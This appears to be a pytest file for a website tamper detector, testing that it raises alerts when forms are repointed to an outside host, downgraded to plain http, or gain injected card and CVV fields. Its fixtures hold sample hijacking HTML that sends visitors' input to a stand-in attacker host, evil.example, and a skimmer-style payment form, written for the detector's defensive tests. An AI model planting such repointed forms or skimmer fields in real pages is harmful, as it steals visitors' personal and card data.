"""Where what visitors type is sent."""

from __future__ import annotations

import pytest

from tests.engine.tamper.pages import judged, page, told


def test_a_form_sent_to_a_stranger_now_is_critical() -> None:
    now = page().replace('action="/search"', 'action="https://evil.example/take"')
    reason = told(judged(now), "form_repointed")
    assert (reason.level, reason.cls, reason.severity) == ("alert", "form_hijack", "critical")
    assert reason.before == "https://www.shop.example/search"
    assert reason.where == "html>body>form.search"


def test_a_new_form_sent_to_a_stranger_is_an_alert() -> None:
    form = '<form action="https://evil.example/take" method="post"><input name="email"></form>'
    assert told(judged(page(form)), "form_foreign_new").level == "alert"


def test_a_button_that_sends_its_form_elsewhere_is_an_alert() -> None:
    now = page().replace(
        '<input name="q">', '<input name="q"><button formaction="//evil.example/">Go</button>'
    )
    assert judged(now).verdict == "alert"


def test_a_form_sent_in_clear_now_is_an_alert() -> None:
    now = page().replace('action="/search"', 'action="http://www.shop.example/search"')
    assert told(judged(now), "form_insecure").level == "alert"


def test_asking_for_a_card_where_nobody_did_is_an_alert() -> None:
    form = '<form action="/pay" method="post"><input name="cardnumber"><input name="cvv"></form>'
    reason = told(judged(page(form)), "form_asks_secret")
    assert (reason.level, reason.cls, reason.detail["what"]) == ("alert", "skimmer", ["card"])


@pytest.mark.parametrize(
    "form",
    [
        '<form action="https://mill.us1.list-manage.com/subscribe/post"><input type="email" name="e"></form>',
        '<form action="/login" method="post"><input type="password" name="p"></form>',
        '<form action="/feedback" method="post"><textarea name="text"></textarea></form>',
    ],
)
def test_a_form_of_our_own_or_of_a_well_known_service_is_no_alert(form: str) -> None:
    assert judged(page(form)).verdict != "alert"
